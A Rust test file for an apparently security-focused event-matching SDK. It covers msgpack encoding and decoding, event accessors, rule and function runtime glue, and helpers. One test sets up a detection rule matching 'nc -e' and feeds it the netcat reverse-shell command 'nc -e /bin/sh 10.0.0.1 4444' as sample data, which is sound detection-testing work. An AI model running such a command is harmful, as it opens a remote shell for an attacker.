//! Host-side tests (`cargo test`): msgpack reading and writing against
//! hand-encoded bytes from the msgpack spec, the result builders, the
//! runtime glue and the helpers.

use std::string::String;
use std::vec;
use std::vec::Vec;

use crate::read::{read_one, Error, Reader, Value};
use crate::rt;
use crate::{Args, Batch, Config, ConfigError, Event, Matches, Rule, Writer};

fn read(bytes: &[u8]) -> Value<'_> {
    read_one(bytes).unwrap()
}

// ---- reader ----

#[test]
fn reads_every_scalar_format() {
    assert_eq!(read(&[0x00]), Value::Int(0));
    assert_eq!(read(&[0x7f]), Value::Int(127));
    assert_eq!(read(&[0xff]), Value::Int(-1));
    assert_eq!(read(&[0xe0]), Value::Int(-32));
    assert_eq!(read(&[0xcc, 0xff]), Value::Int(255));
    assert_eq!(read(&[0xcd, 0x01, 0x00]), Value::Int(256));
    assert_eq!(read(&[0xce, 0xff, 0xff, 0xff, 0xff]), Value::Int(u32::MAX as i64));
    assert_eq!(read(&[0xcf, 0, 0, 0, 1, 0, 0, 0, 0]), Value::Int(1 << 32));
    assert_eq!(read(&[0xcf, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff]), Value::Uint(u64::MAX));
    assert_eq!(read(&[0xd0, 0x80]), Value::Int(-128));
    assert_eq!(read(&[0xd1, 0x80, 0x00]), Value::Int(-32768));
    assert_eq!(read(&[0xd2, 0x80, 0, 0, 0]), Value::Int(i32::MIN as i64));
    assert_eq!(read(&[0xd3, 0x80, 0, 0, 0, 0, 0, 0, 0]), Value::Int(i64::MIN));
    assert_eq!(read(&[0xca, 0x3f, 0xc0, 0, 0]), Value::Float(1.5));
    assert_eq!(read(&[0xcb, 0x40, 0x12, 0, 0, 0, 0, 0, 0]), Value::Float(4.5));
    assert_eq!(read(&[0xc0]), Value::Nil);
    assert_eq!(read(&[0xc2]), Value::Bool(false));
    assert_eq!(read(&[0xc3]), Value::Bool(true));
    assert_eq!(read(&[0xa3, b'a', b'b', b'c']), Value::Str("abc"));
    assert_eq!(read(&[0xa0]), Value::Str(""));
    assert_eq!(read(&[0xd9, 2, b'h', b'i']), Value::Str("hi"));
    assert_eq!(read(&[0xda, 0, 2, b'h', b'i']), Value::Str("hi"));
    assert_eq!(read(&[0xdb, 0, 0, 0, 2, b'h', b'i']), Value::Str("hi"));
    assert_eq!(read(&[0xc4, 2, 1, 2]), Value::Bin(&[1, 2]));
    assert_eq!(read(&[0xc5, 0, 1, 9]), Value::Bin(&[9]));
    assert_eq!(read(&[0xc6, 0, 0, 0, 0]), Value::Bin(&[]));
    assert_eq!(read(&[0xd4, 0x01, 0xaa]), Value::Ext(1, &[0xaa]));
    assert_eq!(read(&[0xd6, 0xff, 1, 2, 3, 4]), Value::Ext(-1, &[1, 2, 3, 4]));
    assert_eq!(read(&[0xc7, 3, 5, 1, 2, 3]), Value::Ext(5, &[1, 2, 3]));
    assert_eq!(read(&[0xc8, 0, 1, 5, 1]), Value::Ext(5, &[1]));
}

#[test]
fn strings_borrow_from_the_input() {
    let buf = [0xa5, b'h', b'e', b'l', b'l', b'o'];
    let s = read(&buf).as_str().unwrap();
    assert_eq!(s.as_ptr(), buf[1..].as_ptr());
}

#[test]
fn invalid_utf8_str_reads_as_bin() {
    let v = read(&[0xa2, 0xff, 0xfe]);
    assert_eq!(v, Value::Bin(&[0xff, 0xfe]));
    assert_eq!(v.as_str(), None);
    assert_eq!(v.as_bytes(), Some(&[0xff, 0xfe][..]));
    // Non-ASCII UTF-8 is fine.
    let mut w = Writer::new();
    w.str("héllo → 世界");
    assert_eq!(read(w.as_bytes()).as_str(), Some("héllo → 世界"));
}

#[test]
fn reads_containers() {
    // [1, "a", [true], {"k": nil}]
    let buf = [0x94, 0x01, 0xa1, b'a', 0x91, 0xc3, 0x81, 0xa1, b'k', 0xc0];
    let arr = read(&buf).as_array().unwrap();
    assert_eq!(arr.len(), 4);
    let items: Vec<Value> = arr.iter().collect();
    assert_eq!(items[0], Value::Int(1));
    assert_eq!(items[1], Value::Str("a"));
    assert_eq!(items[2].as_array().unwrap().get(0), Some(Value::Bool(true)));
    assert_eq!(items[3].as_map().unwrap().get("k"), Some(Value::Nil));
    assert_eq!(arr.get(4), None);
    // array16 / map16 / array32 / map32 headers
    assert_eq!(read(&[0xdc, 0, 2, 1, 2]).as_array().unwrap().len(), 2);
    assert_eq!(read(&[0xdd, 0, 0, 0, 1, 7]).as_array().unwrap().get(0), Some(Value::Int(7)));
    assert_eq!(read(&[0xde, 0, 1, 0xa1, b'x', 3]).as_map().unwrap().get("x"), Some(Value::Int(3)));
    assert_eq!(read(&[0xdf, 0, 0, 0, 1, 0xa1, b'x', 4]).as_map().unwrap().get("x"), Some(Value::Int(4)));
}

#[test]
fn map_lookup_skips_other_keys_and_non_string_keys() {
    let mut w = Writer::new();
    w.map(4);
    w.int(1).str("int key");
    w.str("nested").array(2).map(1).str("x").str("y").array(0);
    w.str("process.name").str("bash");
    w.str("process.name").str("second");
    let m = read(w.as_bytes()).as_map().unwrap();
    assert_eq!(m.get("process.name"), Some(Value::Str("bash")), "first of repeated keys");
    assert_eq!(m.get("x"), None, "keys of nested maps are not found");
    assert_eq!(m.get("missing"), None);
    assert_eq!(m.iter().count(), 4);
}

#[test]
fn malformed_input_is_an_error_never_a_panic() {
    let mut w = Writer::new();
    w.array(3).str("hello").map(1).str("k").array(2).float(1.0).bin(&[1, 2, 3]).int(-100000);
    let full = w.as_bytes().to_vec();
    assert!(read_one(&full).is_ok());
    for cut in 0..full.len() {
        assert_eq!(read_one(&full[..cut]), Err(Error::Truncated), "prefix of {} bytes", cut);
    }
    assert_eq!(read_one(&[0xc1]), Err(Error::BadMarker(0xc1)));
    assert_eq!(read_one(&[0x01, 0x02]), Err(Error::Unexpected), "trailing bytes");
    // A header announcing far more elements than there are.
    assert_eq!(read_one(&[0xdd, 0xff, 0xff, 0xff, 0xff, 0x01]), Err(Error::Truncated));
    assert_eq!(read_one(&[0xdb, 0xff, 0xff, 0xff, 0xff, b'a']), Err(Error::Truncated));
    // Deep nesting does not recurse: 100k nested arrays.
    let mut deep = vec![0x91u8; 100_000];
    deep.push(0xc0);
    assert!(read_one(&deep).is_ok());
}

#[test]
fn reader_reads_values_in_sequence() {
    let mut w = Writer::new();
    w.int(1).str("two").nil();
    let mut r = Reader::new(w.as_bytes());
    assert_eq!(r.read(), Ok(Value::Int(1)));
    r.skip().unwrap();
    assert_eq!(r.read(), Ok(Value::Nil));
    assert!(r.is_at_end());
    assert_eq!(r.read(), Err(Error::Truncated));
}

// ---- writer ----

fn encoded(f: impl FnOnce(&mut Writer)) -> Vec<u8> {
    let mut w = Writer::new();
    f(&mut w);
    w.into_vec()
}

#[test]
fn integers_use_the_smallest_encoding() {
    let cases: &[(i64, &[u8])] = &[
        (0, &[0x00]),
        (127, &[0x7f]),
        (128, &[0xcc, 0x80]),
        (255, &[0xcc, 0xff]),
        (256, &[0xcd, 0x01, 0x00]),
        (65535, &[0xcd, 0xff, 0xff]),
        (65536, &[0xce, 0, 1, 0, 0]),
        (u32::MAX as i64, &[0xce, 0xff, 0xff, 0xff, 0xff]),
        (1 << 32, &[0xcf, 0, 0, 0, 1, 0, 0, 0, 0]),
        (-1, &[0xff]),
        (-32, &[0xe0]),
        (-33, &[0xd0, 0xdf]),
        (-128, &[0xd0, 0x80]),
        (-129, &[0xd1, 0xff, 0x7f]),
        (-32768, &[0xd1, 0x80, 0x00]),
        (-32769, &[0xd2, 0xff, 0xff, 0x7f, 0xff]),
        (i32::MIN as i64, &[0xd2, 0x80, 0, 0, 0]),
        (i32::MIN as i64 - 1, &[0xd3, 0xff, 0xff, 0xff, 0xff, 0x7f, 0xff, 0xff, 0xff]),
        (i64::MIN, &[0xd3, 0x80, 0, 0, 0, 0, 0, 0, 0]),
    ];
    for &(v, bytes) in cases {
        assert_eq!(encoded(|w| drop(w.int(v))), bytes, "{}", v);
        assert_eq!(read(bytes), Value::Int(v));
    }
    assert_eq!(encoded(|w| drop(w.uint(u64::MAX))), [0xcf, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff]);
}

#[test]
fn strings_and_containers_use_the_smallest_header() {
    for &(len, head) in &[(0usize, 1usize), (31, 1), (32, 2), (255, 2), (256, 3), (65535, 3), (65536, 5)] {
        let s: String = "x".repeat(len);
        let b = encoded(|w| drop(w.str(&s)));
        assert_eq!(b.len(), head + len, "str of {}", len);
        assert_eq!(read(&b).as_str(), Some(s.as_str()));
    }
    assert_eq!(encoded(|w| drop(w.str("abc"))), [0xa3, b'a', b'b', b'c']);
    assert_eq!(encoded(|w| drop(w.bin(&[1]))), [0xc4, 1, 1]);
    for &(len, head) in &[(0usize, &[0x90u8][..]), (15, &[0x9f]), (16, &[0xdc, 0, 16]), (65536, &[0xdd, 0, 1, 0, 0])] {
        assert_eq!(encoded(|w| drop(w.array(len))), head);
    }
    assert_eq!(encoded(|w| drop(w.map(15))), [0x8f]);
    assert_eq!(encoded(|w| drop(w.map(16))), [0xde, 0, 16]);
    assert_eq!(encoded(|w| drop(w.map(70000))), [0xdf, 0, 1, 0x11, 0x70]);
    assert_eq!(encoded(|w| drop(w.float(4.5))), [0xcb, 0x40, 0x12, 0, 0, 0, 0, 0, 0]);
    assert_eq!(encoded(|w| drop(w.nil().bool(true).bool(false))), [0xc0, 0xc3, 0xc2]);
}

#[test]
fn values_round_trip() {
    let mut w = Writer::new();
    w.map(3).str("a").array(2).int(-5).float(0.25).str("b").bin(&[0; 300]).str("c").map(0);
    let original = w.into_vec();
    let v = read(&original);
    let copy = encoded(|w| drop(w.value(&v)));
    assert_eq!(copy, original);
    for v in [Value::Ext(-1, &[1, 2, 3, 4, 5, 6, 7, 8][..]), Value::Ext(3, &[1, 2, 3][..]), Value::Uint(u64::MAX)] {
        assert_eq!(read(&encoded(|w| drop(w.value(&v)))), v);
    }
}

// ---- events, args, config ----

fn event_map(w: &mut Writer) {
    w.map(6);
    w.str("process.command_line").str("bash -c 'echo hi'");
    w.str("process.pid").int(4242);
    w.str("@timestamp").int(1_700_000_000_123_456_789);
    w.str("process.args").array(3).str("bash").str("-c").str("echo hi");
    w.str("score").float(0.5);
    w.str("process.interactive").bool(false);
}

#[test]
fn event_accessors() {
    let mut w = Writer::new();
    w.array(1);
    event_map(&mut w);
    let batch = Batch::parse(w.as_bytes(), 1).unwrap();
    let ev: Event = batch.events().next().unwrap();
    assert_eq!(ev.index(), 0);
    assert_eq!(ev.str("process.command_line"), Some("bash -c 'echo hi'"));
    assert_eq!(ev.int("process.pid"), Some(4242));
    assert_eq!(ev.int("@timestamp"), Some(1_700_000_000_123_456_789));
    assert_eq!(ev.float("process.pid"), Some(4242.0));
    assert_eq!(ev.float("score"), Some(0.5));
    assert_eq!(ev.int("score"), None);
    assert_eq!(ev.bool("process.interactive"), Some(false));
    assert_eq!(ev.str("process.pid"), None, "wrong type reads as absent");
    assert_eq!(ev.strs("process.args").collect::<Vec<_>>(), ["bash", "-c", "echo hi"]);
    assert_eq!(ev.strs("process.command_line").count(), 1, "a scalar is a one-element list");
    assert_eq!(ev.strs("missing").count(), 0);
    assert!(ev.has("process.pid"));
    assert!(!ev.has("process.name"));
    assert_eq!(ev.fields().map(|(k, _)| k).collect::<Vec<_>>().len(), 6);
}

#[test]
fn bounded_accessors_do_not_validate_whole_strings() {
    let mut w = Writer::new();
    w.array(1).map(4);
    w.str("cmd").str("héllo wörld");
    w.str("raw").raw(&[0xa3, b'a', 0xff, b'b']); // a str that is not UTF-8
    w.str("args").array(4).str("a").int(1).str("é").bin(&[1]);
    w.str("n").int(7);
    let bytes = w.into_vec();
    let batch = Batch::parse(&bytes, 1).unwrap();
    let ev = batch.events().next().unwrap();
    assert_eq!(ev.bytes("cmd"), Some("héllo wörld".as_bytes()));
    assert_eq!(ev.bytes("raw"), Some(&[b'a', 0xff, b'b'][..]));
    assert_eq!(ev.str("raw"), None);
    assert_eq!(ev.bytes("n"), None);
    assert_eq!(ev.bytes("missing"), None);
    assert_eq!(ev.str_head("cmd", 2), Some("h"), "a character cut by the limit is dropped");
    assert_eq!(ev.str_head("cmd", 3), Some("hé"));
    assert_eq!(ev.str_head("cmd", 1000), Some("héllo wörld"));
    assert_eq!(ev.str_head("raw", 1), Some("a"));
    assert_eq!(ev.str_head("raw", 3), None, "invalid UTF-8 inside the head");
    let raw: Vec<&[u8]> = ev.byte_strs("args").collect();
    assert_eq!(raw, [&b"a"[..], "é".as_bytes(), &[1][..]]);
    assert_eq!(ev.byte_strs("cmd").count(), 1);
    assert_eq!(ev.byte_strs("n").count(), 0);
    assert_eq!(ev.byte_strs("missing").count(), 0);
}

#[test]
fn batch_parse_checks_shape() {
    let mut w = Writer::new();
    w.array(2).map(0);
    event_map(&mut w);
    let bytes = w.into_vec();
    let batch = Batch::parse(&bytes, 2).unwrap();
    let idx: Vec<usize> = batch.events().map(|e| e.index()).collect();
    assert_eq!(idx, [0, 1]);
    assert_eq!(Batch::parse(&bytes, 3).unwrap_err(), Error::CountMismatch);
    assert_eq!(Batch::parse(&bytes[..bytes.len() - 1], 2).unwrap_err(), Error::Truncated);
    assert_eq!(Batch::parse(&encoded(|w| drop(w.array(1).int(3))), 1).unwrap_err(), Error::Unexpected);
    assert_eq!(Batch::parse(&encoded(|w| drop(w.map(0))), 0).unwrap_err(), Error::Unexpected);
    assert!(Batch::parse(&[0x90], 0).unwrap().is_empty());
}

#[test]
fn args_treat_nil_as_none() {
    let bytes = encoded(|w| drop(w.array(4).str("abc").nil().int(3).float(2.5)));
    let args = Args::new(read(&bytes).as_array().unwrap());
    assert_eq!(args.len(), 4);
    assert_eq!(args.str(0), Some("abc"));
    assert_eq!(args.str(1), None);
    assert_eq!(args.get(1), None);
    assert_eq!(args.int(2), Some(3));
    assert_eq!(args.float(2), Some(3.0));
    assert_eq!(args.float(3), Some(2.5));
    assert_eq!(args.str(9), None);
    assert_eq!(args.bytes(0), Some(&b"abc"[..]));
    assert_eq!(args.bytes(1), None);
    assert_eq!(args.bytes(2), None);
}

#[test]
fn config_getters() {
    let bytes = encoded(|w| {
        w.map(5);
        w.str("threshold").int(5);
        w.str("name").str("x");
        w.str("on").bool(true);
        w.str("ratio").float(0.25);
        w.str("list").array(2).str("a").str("b");
    });
    let c = Config::new(read(&bytes).as_map().unwrap());
    assert_eq!(c.get_float("threshold"), Some(5.0), "integers are numbers");
    assert_eq!(c.get_int("threshold"), Some(5));
    assert_eq!(c.get_str("name"), Some("x"));
    assert_eq!(c.get_bool("on"), Some(true));
    assert_eq!(c.get_float("ratio"), Some(0.25));
    assert_eq!(c.get_strs("list").collect::<Vec<_>>(), ["a", "b"]);
    assert_eq!(c.float_or("missing", 4.5), Ok(4.5));
    assert_eq!(c.int_or("threshold", 1), Ok(5));
    assert_eq!(c.int_or("name", 1), Err(ConfigError::from("config `name` must be an integer")));
    assert!(c.bool_or("threshold", false).is_err());
    assert_eq!(c.str_or("name", "d"), Ok("x"));
}

// ---- matches and function results ----

#[test]
fn matches_encode_indices_and_maps() {
    let mut m = Matches::new();
    m.reset();
    assert_eq!(m.finish(), [0x90]);

    m.reset();
    m.matched(3);
    m.matched_with(7).msg("why").data_int("n", 2).action("kill");
    m.matched_with(9);
    assert_eq!(m.len(), 3);
    let mut expect = Writer::new();
    expect.array(3).int(3);
    expect.map(4).str("i").int(7).str("msg").str("why");
    expect.str("data").map(1).str("n").int(2);
    expect.str("actions").array(1).str("kill");
    expect.map(1).str("i").int(9);
    assert_eq!(m.finish(), expect.as_bytes());
}

#[test]
fn match_builder_collects_data_and_can_be_used_conditionally() {
    let mut m = Matches::new();
    m.reset();
    {
        let mut b = m.matched_with(1);
        b.msg("first").msg_fmt(format_args!("token {} of {}", 2, 5));
        b.data_str("k", "v").data_float("e", 4.75).data_bool("b", true);
        b.data_strs("l", ["a", "b"].iter().copied());
        b.data_value("raw", &Value::Int(-7));
        if 1 + 1 == 2 {
            b.action("alert").action("kill");
        }
    }
    let out = m.finish().to_vec();
    let arr = read(&out).as_array().unwrap();
    let map = arr.get(0).unwrap().as_map().unwrap();
    assert_eq!(map.get("i"), Some(Value::Int(1)));
    assert_eq!(map.get("msg"), Some(Value::Str("token 2 of 5")));
    let data = map.get("data").unwrap().as_map().unwrap();
    assert_eq!(data.len(), 5);
    assert_eq!(data.get("k"), Some(Value::Str("v")));
    assert_eq!(data.get("e"), Some(Value::Float(4.75)));
    assert_eq!(data.get("b"), Some(Value::Bool(true)));
    assert_eq!(data.get("raw"), Some(Value::Int(-7)));
    let l: Vec<&str> = data.get("l").unwrap().as_array().unwrap().iter().filter_map(|v| v.as_str()).collect();
    assert_eq!(l, ["a", "b"]);
    let actions: Vec<&str> =
        map.get("actions").unwrap().as_array().unwrap().iter().filter_map(|v| v.as_str()).collect();
    assert_eq!(actions, ["alert", "kill"]);
}

#[test]
fn matches_header_grows_in_place_and_buffers_are_reused() {
    let mut m = Matches::new();
    for &n in &[0usize, 15, 16, 65535, 65536, 3] {
        m.reset();
        for i in 0..n {
            m.matched(i);
        }
        let out = m.finish();
        let arr = read(out).as_array().unwrap();
        assert_eq!(arr.len(), n);
        assert_eq!(arr.iter().last(), if n > 0 { Some(Value::Int(n as i64 - 1)) } else { None });
    }
    // A new batch does not reallocate once the buffer has grown.
    m.reset();
    m.matched(1);
    let p = m.finish().as_ptr() as usize;
    m.reset();
    m.matched(2);
    assert_eq!(m.finish().as_ptr() as usize, p);
}

// ---- runtime glue ----

struct Contains {
    needle: String,
}

impl Rule for Contains {
    fn init(config: &Config) -> Result<Self, ConfigError> {
        let needle = config.str_or("needle", "evil")?;
        if needle.is_empty() {
            return Err("needle must not be empty".into());
        }
        Ok(Contains { needle: needle.into() })
    }
    fn check(&mut self, ev: &Event, out: &mut Matches) {
        if let Some(c) = ev.str("process.command_line") {
            if c.contains(self.needle.as_str()) {
                out.matched_with(ev.index()).msg("found").data_int("len", c.len() as i64);
            }
        }
    }
}

fn batch_of(cmdlines: &[Option<&str>]) -> Vec<u8> {
    let mut w = Writer::new();
    w.array(cmdlines.len());
    for c in cmdlines {
        match c {
            Some(c) => drop(w.map(1).str("process.command_line").str(c)),
            None => drop(w.map(0)),
        }
    }
    w.into_vec()
}

#[test]
fn runtime_runs_a_rule() {
    let mut slot = rt::Slot::<Contains>::Fresh;
    let cfg = encoded(|w| drop(w.map(1).str("needle").str("nc -e")));
    assert_eq!(rt::init_rule(&mut slot, &cfg), 0);
    let input = batch_of(&[Some("ls"), None, Some("nc -e /bin/sh 10.0.0.1 4444"), Some("")]);
    let mut out = Matches::new();
    let res = rt::match_batch(&mut slot, &input, 4, &mut out).unwrap().to_vec();
    let arr = read(&res).as_array().unwrap();
    assert_eq!(arr.len(), 1);
    assert_eq!(arr.get(0).unwrap().as_map().unwrap().get("i"), Some(Value::Int(2)));
    // Next batch: fresh results in the same buffer.
    let res = rt::match_batch(&mut slot, &batch_of(&[Some("x")]), 1, &mut out).unwrap();
    assert_eq!(res, [0x90]);
    // Wrong count, garbage.
    assert_eq!(rt::match_batch(&mut slot, &input, 5, &mut out), Err(rt::BAD_INPUT));
    assert_eq!(rt::match_batch(&mut slot, &[0xc1], 1, &mut out), Err(rt::BAD_INPUT));
}

#[test]
fn runtime_init_errors() {
    let mut slot = rt::Slot::<Contains>::Fresh;
    let mut out = Matches::new();
    assert_eq!(rt::init_rule(&mut slot, &encoded(|w| drop(w.map(1).str("needle").str("")))), 1);
    assert!(slot.rule().is_none());
    // A refused configuration refuses batches; it does not fall back to defaults.
    assert_eq!(rt::match_batch(&mut slot, &batch_of(&[Some("evil")]), 1, &mut out), Err(rt::NOT_INITIALISED));
    assert_eq!(rt::init_rule(&mut slot, &encoded(|w| drop(w.map(1).str("needle").int(3)))), 1);
    assert_eq!(rt::init_rule(&mut slot, &[0x91, 0x01]), 2);
    assert_eq!(rt::init_rule(&mut slot, &[]), 0, "no config: defaults");
    assert_eq!(slot.rule().unwrap().needle, "evil");
    // A batch before any init uses the defaults.
    let mut fresh = rt::Slot::<Contains>::Fresh;
    let res = rt::match_batch(&mut fresh, &batch_of(&[Some("evil")]), 1, &mut out).unwrap();
    assert_eq!(read(res).as_array().unwrap().len(), 1);
}

#[test]
fn runtime_calls_a_function() {
    fn upper_len(args: &Args) -> Option<i64> {
        args.str(0).map(|s| s.len() as i64)
    }
    let input = encoded(|w| drop(w.array(3).array(1).str("abcd").array(1).nil().array(0)));
    let mut out = Writer::new();
    let res = rt::call_function(&input, 3, &mut out, |a, w| crate::FnReturn::write_to(&upper_len(a), w)).unwrap();
    assert_eq!(res, [0x93, 0x04, 0xc0, 0xc0]);
    let mut out = Writer::new();
    assert_eq!(rt::call_function(&input, 2, &mut out, |_, w| drop(w.nil())), Err(rt::BAD_INPUT));
    let bad = encoded(|w| drop(w.array(1).str("not args")));
    assert_eq!(rt::call_function(&bad, 1, &mut out, |_, w| drop(w.nil())), Err(rt::BAD_INPUT));
}

#[test]
fn fn_return_types() {
    use crate::FnReturn;
    let enc = |r: &dyn Fn(&mut Writer)| encoded(|w| r(w));
    assert_eq!(enc(&|w| true.write_to(w)), [0xc3]);
    assert_eq!(enc(&|w| 5i32.write_to(w)), [0x05]);
    assert_eq!(enc(&|w| 300usize.write_to(w)), [0xcd, 0x01, 0x2c]);
    assert_eq!(enc(&|w| "ab".write_to(w)), [0xa2, b'a', b'b']);
    assert_eq!(enc(&|w| String::from("ab").write_to(w)), [0xa2, b'a', b'b']);
    assert_eq!(enc(&|w| None::<f64>.write_to(w)), [0xc0]);
    assert_eq!(enc(&|w| Some(1.0f64).write_to(w)), [0xcb, 0x3f, 0xf0, 0, 0, 0, 0, 0, 0]);
    assert_eq!(enc(&|w| ().write_to(w)), [0xc0]);
}

// ---- helpers ----

#[test]
fn log2_matches_std() {
    let mut x = 1e-310f64;
    while x < 1e300 {
        let got = crate::math::log2(x);
        let want = x.log2();
        assert!((got - want).abs() <= 1e-12 * want.abs().max(1.0), "log2({}) = {} not {}", x, got, want);
        x *= 1.37;
    }
    for n in 1..5000u32 {
        let x = n as f64;
        assert!((crate::math::log2(x) - x.log2()).abs() < 1e-13, "{}", n);
    }
    assert_eq!(crate::math::log2(1.0), 0.0);
    assert_eq!(crate::math::log2(1024.0), 10.0);
    assert!(crate::math::log2(-1.0).is_nan());
    assert!(crate::math::log2(f64::NAN).is_nan());
    assert_eq!(crate::math::log2(0.0), f64::NEG_INFINITY);
    assert_eq!(crate::math::log2(f64::INFINITY), f64::INFINITY);
    assert!((crate::math::ln(core::f64::consts::E) - 1.0).abs() < 1e-15);
}

#[test]
fn text_helpers() {
    use crate::text::{push_fixed, push_int, truncate};
    assert_eq!(truncate("héllo", 2), "hé");
    assert_eq!(truncate("abc", 10), "abc");
    assert_eq!(truncate("", 0), "");
    let mut s = String::new();
    push_int(&mut s, -42);
    s.push(' ');
    push_int(&mut s, i64::MIN);
    s.push(' ');
    push_fixed(&mut s, 4.5678, 2);
    s.push(' ');
    push_fixed(&mut s, -0.004, 2);
    s.push(' ');
    push_fixed(&mut s, 3.0, 0);
    s.push(' ');
    push_fixed(&mut s, 0.05, 3);
    s.push(' ');
    push_fixed(&mut s, f64::NAN, 1);
    assert_eq!(s, "-42 -9223372036854775808 4.57 0.00 3 0.050 NaN");
}
